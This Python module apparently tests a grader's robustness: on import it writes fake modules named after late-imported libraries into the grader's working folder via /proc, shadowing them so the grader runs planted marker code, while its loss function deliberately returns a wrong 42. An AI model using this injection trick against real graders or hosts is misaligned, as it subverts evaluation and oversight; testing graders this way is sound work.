"""Plants code in the grader: writes modules the grading process imports late
(after a first failure: Hypothesis's explanation imports libcst and friends)
into the grader's working folder, found through /proc. Planted code that runs
leaves a file PLANTED-CODE-RAN beside itself. Its own loss is wrong (42)."""
import os

import numpy as np

PLANTED = '''
import os
open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "PLANTED-CODE-RAN"), "w").write(__name__)
raise ImportError("planted")
'''
LATE_IMPORTS = ["libcst", "typing_inspect", "mypy_extensions", "multiprocessing", "difflib", "pprint"]


def _plant():
    for pid in {os.getppid(), 1}:
        folder = f"/proc/{pid}/cwd"
        for name in LATE_IMPORTS:
            try:
                with open(os.path.join(folder, f"{name}.py"), "w") as handle:
                    handle.write(PLANTED)
            except OSError:
                pass


_plant()


def logistic_loss(w, b, x, y):
    return 42.0


def logistic_grad(w, b, x, y):
    z = x @ w + b
    r = (1 - y) / (1 + np.exp(-z)) - y / (1 + np.exp(z))
    return x.T @ r, float(np.sum(r))
